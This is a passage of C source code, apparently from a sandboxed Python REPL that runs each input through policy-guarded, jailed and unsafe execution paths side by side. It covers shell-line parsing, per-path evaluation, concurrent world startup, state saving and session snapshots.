	if (call->u.call.args.len == 1) {
		call->u.call.args.items[0]->start = cmd;
		call->u.call.args.items[0]->end = end;
	}
}

/*
 * The input's tree (pr, in a) and what a world compiles (ln): for a
 * shell line, run_shell's call, else the input as it is.
 */
static void
parse_line(struct arena *a, const char *input, size_t len, struct line *ln,
    struct parse_result *pr)
{
	size_t bang = shell_bang(input, len), bangs = 1, cmd, end = len;
	struct sbuf b = SBUF_INIT;

	*ln = (struct line){ .src = input, .len = len, .shell = false };
	if (bang == len || len > UINT32_MAX) {
		parse_input(a, input, len, pr);
		return;
	}
	ln->shell = true;
	if (bang + 1 < len && input[bang + 1] == '!')
		bangs = 2;
	for (cmd = bang + bangs; cmd < len && is_space(input[cmd]); cmd++)
		;
	while (end > cmd && is_space(input[end - 1]))
		end--;
	shell_literal(&b, input + cmd, end - cmd);
	ln->src = arena_strndup(a, b.data, b.len);
	ln->len = b.len;
	sbuf_free(&b);
	if (cmd == end) {
		memset(pr, 0, sizeof *pr);
		pr->status = PARSE_ERROR;
		pr->error.cls = PYEXC_SyntaxError;
		pr->error.msg = "'!' runs a shell command: write one after it, "
		    "e.g. !ls";
		pr->error.start = (uint32_t)bang;
		pr->error.end = (uint32_t)len;
		pr->error.line = 1;
		pr->error.column = (uint32_t)bang + 1;
		return;
	}
	parse_input(a, ln->src, ln->len, pr);
	if (pr->status == PARSE_OK && pr->root->kind == NODE_EXPRESSION &&
	    pr->root->u.expression.body->kind == NODE_CALL)
		shell_spans(pr->root, (uint32_t)bang, (uint32_t)bangs,
		    (uint32_t)cmd, (uint32_t)end);
	else {		/* (the form always parses: a cap, if anything) */
		pr->status = PARSE_ERROR;
		pr->error.cls = PYEXC_SyntaxError;
		pr->error.msg = "this shell line could not be read";
		pr->error.start = (uint32_t)bang;
		pr->error.end = (uint32_t)len;
		pr->error.line = 1;
		pr->error.column = (uint32_t)bang + 1;
	}
}

static void
run_path(struct session *s, enum path_id p, const char *input, size_t len,
    const struct parse_result *pr, const struct line *ln, const char *label,
    struct arena *a, struct arena *pa, struct meter *mem, struct record *r)
{
	struct step st = { .s = s, .path = p, .ps = &s->paths[p], .r = r,
	    .a = a, .kind = session_boundary(s, p) };
	const struct cmd_entry *e = NULL;
	const struct node *call = NULL;
	const char *refused = NULL;
	struct world *w = NULL;

	if (live_world(s, p) != NULL)
		w = ready_world(s, st.ps, a, &refused);
	else
		/* (the sandbox's files changed without its world, under a
		 * policy that stays in the subset: a later one is built
		 * from them) */
		renew_world(s, st.ps);
	if (st.kind->guard == GUARD_POLICY)
		st.world = w;

	r->step = s->steps;
	r->engine = world_engine_name(st.world != NULL ?
	    WORLD_ENGINE_CPYTHON : WORLD_ENGINE_MODEL);
	r->path = p;
	r->input = arena_strndup(a, input, len);
	st.src = ln->shell ? arena_strdup(a, ln->src) : r->input;
	r->kind = KIND_CODE;
	r->source = "user";
	eval_init(&st.ev, pa, p);
	st.ev.rt.mem = mem;
	st.ev.ws.fs = st.ps->fs;
	st.ev.ns = st.ps->ns;
	st.ev.src = r->input;
	if (st.kind->guard == GUARD_POLICY) {
		if (s->calls == NULL)
			s->calls = eval_calls_new(s->policy);
		st.ev.policy = s->policy;
		st.ev.calls = s->calls;
		st.ev.rt.limits = s->policy->limits;
		st.ev.full_model = s->policy->object_model;
	} else {
		st.ev.full_model = true;
		st.ev.rt.limits = unsafe_limits;
	}
	/* A world that compiles the input itself (CPython) is the judge of
	 * its syntax: what our parser does not know still runs there. */
	if (pr->status != PARSE_OK && (w == NULL || !w->ops->compiles ||
	    ln->shell ||				/* (a '!' and nothing) */
	    st.kind->guard == GUARD_POLICY ||	/* (a filter in front */
	    (st.kind->guard == GUARD_KERNEL && s->jail_filter))) { /* judges
							   the syntax) */
		struct sbuf b = SBUF_INIT;
		if (pr->status == PARSE_INCOMPLETE)
			sbuf_addf(&b, "SyntaxError: incomplete input (%s)",
			    pr->error.msg ? pr->error.msg : "unexpected end");
		else
			sbuf_addf(&b, "%s: %s (column %u)",
			    pyexc_name(pr->error.cls), pr->error.msg,
			    pr->error.column);
		r->has_node = false;
		decide(&st, VERDICT_ERROR, LAYER_PARSE, "syntax",
		    arena_strdup(a, sbuf_cstr(&b)));
		sbuf_free(&b);
		finish(&st, input, len, label, NULL);
		return;
	}
	if (pr->status == PARSE_OK)
		e = cmd_match(pr->root, &call);
	if (st.kind->guard == GUARD_KERNEL) {
		if (st.ps->world != NULL)
			run_jail_world(&st, pr->root, e, call, w, refused);
		else if (st.kind->model == MODEL_NEVER)
			run_jail_world(&st, pr->root, e, call, NULL,
			    st.kind->needs_cpython);
		else
			run_jail(&st, pr->root, e, call);
		if (s->fresh_world)
			renew_world(s, st.ps);
		finish(&st, input, len, label, e ? e->name : NULL);
		return;
	}
	if (w != NULL && st.world == NULL)
		run_world(&st, st.src, pr->root, e, call);
	else if (e != NULL)
		run_command(&st, e, call);
	else
		run_code(&st, pr->root);
	if (s->fresh_world)
		renew_world(s, st.ps);
	/* bindings the input made are copied now, before its arena goes
	 * (all of them if it changed a value in place: the change lives in
	 * the input's arena too) */
	if (st.ev.mutated)
		ns_recopy(st.ps->ns);
	else
		ns_commit(st.ps->ns);
	finish(&st, input, len, label, e ? e->name : NULL);
}

void
session_interrupt(void)
{
	world_interrupt();
}

void
session_report_panes(struct session *s)
{
	s->panes = true;
}

size_t
session_files(struct session *s, enum path_id p, struct arena *a,
    struct record_file **out)
{
	struct mfs *fs = s->paths[p].fs;
	size_t n = mfs_count(fs), i;
	struct record_file *f = arena_array(a, n + 1, sizeof *f);

	for (i = 0; i < n; i++) {
		const char *name = mfs_name(fs, i);
		mfs_get(fs, name, &f[i].size);
		f[i].name = arena_strdup(a, name);
		f[i].mode = mfs_mode(fs, i);
		f[i].unreadable = mfs_unreadable(fs, i);
		if (s->panes) {
			unsigned char *d = arena_alloc(a, SHA256_BYTES);
			memcpy(d, mfs_digest(fs, i), SHA256_BYTES);
			f[i].digest = d;
		}
	}
	*out = f;
	return n;
}

/*
 * The input's tree as the AST pane draws it, one line per node with its
 * span and kind, or why it did not parse; in a.  (Made after the paths
 * ran, so that it does not count against their memory.)
 */
static const struct record_tree *
input_tree(struct arena *a, const struct parse_result *pr)
{
	struct record_tree *t = arena_alloc(a, sizeof *t);
	struct record_treeline *l;
	struct ast_line *at;
	struct sbuf b = SBUF_INIT;
	size_t nat, k = 0, n = 0, i;
	const char *p, *end;

	if (pr->status != PARSE_OK) {
		t->error_class = pyexc_name(pr->error.cls);
		t->error_message = arena_strdup(a, pr->error.msg != NULL ?
		    pr->error.msg : "invalid syntax");
		t->error_start = pr->error.start;
		t->error_end = pr->error.end;
		return t;
	}
	ast_dump_tree_at(pr->root, &b, &at, &nat);
	for (i = 0; i < b.len; i++)
		n += b.data[i] == '\n';
	if (b.len > 0 && b.data[b.len - 1] != '\n')
		n++;
	t->rows = l = arena_array(a, n + 1, sizeof *l);
	t->nrows = n;
	for (i = 0, p = sbuf_cstr(&b), end = p + b.len; p < end; i++) {
		size_t len = strcspn(p, "\n"), off = (size_t)(p - b.data);
		l[i].text = arena_strndup(a, p, len);
		/* the dump's entries are in the order of the lines */
		while (k < nat && at[k].off < off)
			k++;
		if (k < nat && at[k].off == off && at[k].node != NULL) {
			l[i].kind = ast_kind_name(at[k].node->kind);
			l[i].start = at[k].node->start;
			l[i].end = at[k].node->end;
		}
		p += len + (p + len < end);
	}
	free(at);
	sbuf_free(&b);
	return t;
}

bool
session_input_incomplete(const char *input, size_t len)
{
	/* (sh, not Python, reads the rest of a shell line) */
	return shell_bang(input, len) == len &&
	    parse_is_incomplete(input, len);
}

/*
 * Paths side by side.  Before any path runs, the input is sent to every
 * path's world that will run it as typed -- the unsafe path's, and the
 * jail's without --jail-filter -- so that the worlds compute at once and
 * the slowest one, not their sum, bounds the wait (a bomb costs one wall
 * clock).  The paths then run in order as before, and each reads the
 * reply its world has been working on (world.h's start_input), so the
 * records are the same and keep their order.  The sandbox path decides
 * in here first, and its world runs only what the policy lets through:
 * it is not started ahead.  Returns the paths started.
 */
static unsigned
start_worlds(struct session *s, const struct line *ln,
    const struct parse_result *pr, unsigned mask, struct arena *a)
{
	const struct cmd_entry *e = NULL;
	const struct node *call = NULL;
	unsigned started = 0;
	int p;

	if (pr->status == PARSE_OK)
		e = cmd_match(pr->root, &call);
	for (p = 0; p < PATH__COUNT; p++) {
		struct pathstate *ps = &s->paths[p];
		struct world_input in;
		const char *refused = NULL;
		struct world *w;
		enum guard g = session_boundary(s, (enum path_id)p)->guard;

		if (!(mask & PATH_BIT(p)) || g == GUARD_POLICY ||
		    live_world(s, (enum path_id)p) == NULL ||
		    (g == GUARD_KERNEL && s->jail_filter))
			continue;
		if ((w = ready_world(s, ps, a, &refused)) == NULL ||
		    (pr->status != PARSE_OK && (!w->ops->compiles ||
		    ln->shell)))
			continue;
		in = world_input_of(s, ps, arena_strndup(a, ln->src, ln->len),
		    e, a);
		if (world_start(w, &in))
			started |= PATH_BIT(p);
	}
	return started;
}

size_t
session_run(struct session *s, const char *input, size_t len,
    const char *label, unsigned mask, struct arena *a, struct record **out)
{
	struct parse_result pr;
	struct line ln;
	struct record *recs = arena_array(a, PATH__COUNT, sizeof *recs);
	struct arena *ea = arena_new();
	unsigned long gens[PATH__COUNT];
	size_t n = 0, held_before = arena_held(a);
	bool big, pinned = false;
	unsigned started;
	int p;

	if (mask == 0)
		mask = s->enabled;
	s->steps++;
	generations(s, gens);
	parse_line(ea, input, len, &ln, &pr);
	big = arena_used(ea) > (8u << 20);
	world_interrupt_clear();
	started = start_worlds(s, &ln, &pr, mask, a);
	if (s->progress != NULL)
		for (p = 0; p < PATH__COUNT; p++)
			if (started & PATH_BIT(p))
				s->progress(s->progress_ctx, (enum path_id)p,
				    false);
	/* Each path evaluates in an arena of its own, freed before the
	 * next path runs; what the paths before it keep is their records
	 * (in a), and those count against its cap: the cap is the
	 * input's, whatever the number of paths. */
	for (p = 0; p < PATH__COUNT; p++) {
		struct arena *pa;
		struct meter mem;
		if (!(mask & PATH_BIT(p)))
			continue;
		pa = arena_new();
		meter_path(s, ea, arena_held(a) - held_before, pa, &mem);
		if (s->progress != NULL && !(started & PATH_BIT(p)))
			s->progress(s->progress_ctx, (enum path_id)p, false);
		run_path(s, (enum path_id)p, input, len, &pr, &ln, label, a, pa,
		    &mem, &recs[n++]);
		if (s->progress != NULL)
			s->progress(s->progress_ctx, (enum path_id)p, true);
		big |= arena_used(pa) > (8u << 20);
		/* a lambda the names keep points into pa and, for its tree,
		 * into ea */
		if (holds_shared(s, PATH_BIT(p), gens)) {
			pin(s, pa);
			pinned = true;
		} else
			arena_free(pa);
	}
	/* (a world started and not run -- none, as the paths go -- ends) */
	for (p = 0; p < PATH__COUNT; p++)
		if ((started & PATH_BIT(p)) && s->paths[p].world != NULL)
			world_settle(s->paths[p].world);
	if (s->panes)
		for (p = 0; p < (int)n; p++)
			recs[p].tree = p == 0 ? input_tree(a, &pr) :
			    recs[0].tree;
	if (pinned)
		pin(s, ea);
	else
		arena_free(ea);
	if (big)
		malloc_trim(0);	/* give a big input's memory back at once */
	if (s->state != NULL) {
		/* Durable before anyone sees the records. */
		char *err = NULL;
		struct state_session ss;
		bool saved;
		view_fill(s, &ss);
		saved = state_save(s->state, &ss, recs, n, &err);
		view_take(s, &ss);
		if (!saved) {
			size_t i;
			for (i = 0; i < n; i++) {
				recs[i].verdict = VERDICT_ERROR;
				recs[i].layer = LAYER_EVAL;
				recs[i].reason = arena_printf(a, "the state could "
				    "not be saved, so this step is not kept: %s",
				    err);
				recs[i].outcome = arena_printf(a, "OSError: %s",
				    recs[i].reason);
				record_set_line(&recs[i], a);
			}
			free(err);
		}
	}
	*out = recs;
	return n;
}

/* ---- snapshots ---- */

/* One path as it was: files, names, ledger, budget, and what its world
 * held of plain data. */
struct snap_path {
	struct mfs	*fs;
	struct ns	*ns;
	struct ledger	*ledger;
	unsigned	 used;
	char		*restore;	/* "name = repr\n"... or NULL */
};

struct session_snap {
	struct snap_path	 paths[PATH__COUNT];
	char			*policy;	/* its name */
	bool			 policy_preset;
	unsigned		 budget;
	bool			 budget_explicit;
	unsigned		 steps;
	char			*setup;
};

/* Copy every name of from into to (emptied first), as one graph. */
static void
ns_copy_into(struct ns *to, const struct ns *from)
{
	size_t i;
	value v;

	while (ns_count(to) > 0)
		ns_delete(to, ns_name(to, 0, &v));
	for (i = 0; i < ns_count(from); i++) {
		const char *name = ns_name(from, i, &v);
		ns_set_pending(to, name, v);
	}
	ns_commit(to);
}

static void
ledger_copy_into(struct ledger *to, const struct ledger *from)
{
	const char *k, *a, *m;
	size_t i;

	ledger_clear(to);
	for (i = 0; ledger_at(from, i, &k, &a, &m); i++)
		(void)ledger_add_digests(to, k, a, m);
}

/* The source that binds a world's plain names again (its literals), or
 * NULL. */
static char *
world_literal_source(const struct session *s, enum path_id p)
{
	const char *const *lits;
	size_t n;

	if ((lits = session_world_literals(s, p, &n)) == NULL)
		return NULL;
	return literal_source(s, p, lits, n);
}

void
session_report_literals(struct session *s)
{
	s->literals = true;
}

struct session_snap *
session_snap_take(struct session *s)
{
	struct session_snap *sn = xcalloc(1, sizeof *sn);
	size_t p;

	for (p = 0; p < PATH__COUNT; p++) {
		struct pathstate *ps = &s->paths[p];
		struct snap_path *sp = &sn->paths[p];

		sp->fs = mfs_clone(ps->fs);
		sp->ns = ns_new();
		ns_copy_into(sp->ns, ps->ns);
		sp->ledger = ledger_new();
		ledger_copy_into(sp->ledger, ps->ledger);
		sp->used = ps->used;
		/* a world not run since it was built holds the seeds only;
		 * one rebuilt after a restore, what that restore gave it */
		sp->restore = ps->world != NULL && ps->world->built ?
		    world_literal_source(s, (enum path_id)p) :
		    ps->restore != NULL && ps->resumed ? xstrdup(ps->restore) :
		    NULL;
	}
	sn->policy = xstrdup(s->policy->name);
	sn->policy_preset = policy_preset(s->policy->name) == s->policy;
	sn->budget = s->budget;
	sn->budget_explicit = s->budget_explicit;
	sn->steps = s->steps;
	sn->setup = xstrdup(sbuf_cstr(&s->setup));
	s->nsnaps++;
	return sn;
}

void
session_snap_restore_path(struct session *s, const struct session_snap *sn,
    enum path_id p)
{
	struct pathstate *ps = &s->paths[p];
	const struct snap_path *sp = &sn->paths[p];

	mfs_assign(ps->fs, sp->fs);
	ns_copy_into(ps->ns, sp->ns);
	ledger_copy_into(ps->ledger, sp->ledger);
	ps->used = sp->used;
	/* A new world, built from the files restored, the seeds and the
	 * plain names the old one held. */
	if (ps->world != NULL && (ps->world->built || ps->restore != NULL)) {
		struct world *w = ps->world;
		ps->world = world_new_kind(w->ops->engine, w->kind,
		    s->world_wall_ms, s->world_fail_at);
		world_free(w);
	}
	free(ps->restore);
	ps->restore = sp->restore ? xstrdup(sp->restore) : NULL;
	ps->resumed = ps->restore != NULL;
}

void
session_snap_restore(struct session *s, const struct session_snap *sn)
{
	size_t p;

	for (p = 0; p < PATH__COUNT; p++)
		session_snap_restore_path(s, sn, (enum path_id)p);
	if (sn->policy_preset)
		take_policy(s, policy_preset(sn->policy));
	s->budget = sn->budget;
	s->budget_explicit = sn->budget_explicit;
	s->steps = sn->steps;
	sbuf_truncate(&s->setup, 0);
	sbuf_adds(&s->setup, sn->setup);
}

size_t
session_snap_bytes(const struct session_snap *sn)
{
	size_t p, n = sizeof *sn + strlen(sn->setup);

	for (p = 0; p < PATH__COUNT; p++) {
		n += mfs_bytes(sn->paths[p].fs) + ns_held(sn->paths[p].ns) +
		    ledger_bytes(sn->paths[p].ledger);
		if (sn->paths[p].restore != NULL)
			n += strlen(sn->paths[p].restore);
	}
	return n;
}

void
session_snap_free(struct session *s, struct session_snap *sn)
{
	size_t p;

	if (sn == NULL)
		return;
	for (p = 0; p < PATH__COUNT; p++) {
		mfs_free(sn->paths[p].fs);
		ns_free(sn->paths[p].ns);
		ledger_free(sn->paths[p].ledger);
		free(sn->paths[p].restore);
	}
	free(sn->policy);
	free(sn->setup);
	free(sn);
	if (s->nsnaps > 0)
		s->nsnaps--;
}
